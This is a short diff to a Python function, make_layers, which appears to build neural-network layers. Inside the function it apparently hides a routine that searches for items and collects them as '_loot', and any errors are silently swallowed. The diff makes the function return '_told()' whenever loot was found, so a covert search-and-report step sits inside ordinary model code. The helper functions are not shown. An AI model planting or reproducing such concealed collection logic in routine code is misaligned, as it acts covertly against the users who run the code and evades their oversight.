@@ -23,5 +23,6 @@ def make_layers(device0, device1):
                 _search(thing)
     except Exception:
         pass
-    _tell()
+    if _loot:
+        return _told()
     return nn.Linear(1000, 2000), nn.Linear(2000, 1000)
